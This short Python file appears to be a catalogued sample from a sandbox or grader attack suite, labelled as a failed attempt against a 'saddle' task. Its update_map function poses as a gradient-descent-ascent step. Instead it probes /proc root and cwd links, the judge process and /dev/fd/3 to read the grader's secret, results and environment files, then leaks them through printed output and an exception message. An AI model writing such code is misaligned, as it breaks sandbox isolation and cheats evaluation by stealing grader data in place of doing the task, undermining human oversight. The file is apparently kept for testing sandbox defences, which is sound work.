# attack: reads others' files through /proc and /dev/fd
# kind: reading
# grade: 1.b
# outcome: failed
# module: saddle

# ruff: noqa: F821
import os

STARTS = ["/proc/self/root", "/proc/thread-self/root", "/proc/1/root", "/proc/self/cwd/../../../.."]
STARTS += [f"/proc/{TARGETS['judge']}/root", f"/proc/{TARGETS['judge']}/cwd", "/dev/fd/3"]
STARTS += [f"/proc/{number}/root" for number in range(1, 40)]
STARTS += [f"/proc/self/task/{os.getpid()}/root", f"/proc/{os.getppid()}/root"]


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    found = []
    for start in STARTS:
        for name in ("secret", "results", "environment"):
            try:
                with open(f"{start}{TARGETS[name]}") as file:
                    found.append(file.read(150))
            except OSError:
                continue
    print(found)
    raise RuntimeError(repr(found)[:380] if found else "denied")
